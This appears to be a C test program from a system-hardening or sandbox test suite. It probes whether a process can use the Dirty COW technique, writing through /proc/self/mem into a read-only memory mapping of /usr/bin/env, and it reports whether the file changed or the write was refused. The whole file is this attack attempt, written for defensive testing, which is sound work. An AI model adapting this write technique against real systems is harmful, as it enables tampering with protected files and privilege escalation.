#include "hostile.h"

/* The way of Dirty COW: writing through /proc/self/mem to a page of a file that may only be read. */
int main(void) {
    const char *path = "/usr/bin/env";
    char before[16], after[16];
    int file = open(path, O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    pread(file, before, sizeof before, 64);
    for (int kind = 0; kind < 2; kind++) {
        char *page = mmap(NULL, 4096, PROT_READ, kind ? MAP_SHARED : MAP_PRIVATE, file, 0);
        pwrite(memory, "hostile", 7, (off_t)(page + 64));
        madvise(page, 4096, MADV_DONTNEED);
    }
    pread(file, after, sizeof after, 64);
    if (memcmp(before, after, sizeof before)) achieved("changed %s", path);
    IMPOSSIBLE(mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0));
    return refused();
}
